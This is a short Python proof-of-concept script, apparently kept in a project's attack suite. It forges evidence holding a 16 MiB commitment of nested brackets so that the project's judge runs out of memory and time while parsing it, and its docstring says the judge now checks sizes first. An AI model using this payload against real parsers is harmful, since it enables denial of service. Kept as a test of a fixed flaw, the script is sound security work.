"""Gives a judge a run commitment of 16 MiB of brackets.

    python attacks/around/commitment-of-brackets.py --job JOB --out EVIDENCE

It needs no run, no key and no signature. Evidence names two commitments, and the judge parsed them
before it had checked any of their properties. A parsed value takes many times its bytes: 800 MiB
and 6 s. The judge now checks sizes first (PROTOCOL 8.5): a commitment has at most 64 KiB, and
evidence has at most the bytes that a game of the job can leave.
"""

from __future__ import annotations

import argparse
from pathlib import Path

from tallystick.job.job_file import load_terms
from tallystick.protocol.evidence import Evidence

SIZE = (16 << 20) - 1024


def forged(job: Path) -> bytes:
    """Evidence about `job` whose first commitment is `[[],[],...]`."""
    brackets = b"[" + b"[]," * (SIZE // 3) + b"[]]"
    return Evidence(load_terms(job).digest, 20, (brackets, b"{}"), ()).to_bytes()


def main(arguments: list[str] | None = None) -> None:
    """Write the forged evidence."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--job", type=Path, required=True)
    parser.add_argument("--out", type=Path, required=True)
    given = parser.parse_args(arguments)
    given.out.write_bytes(forged(given.job))


if __name__ == "__main__":
    main()
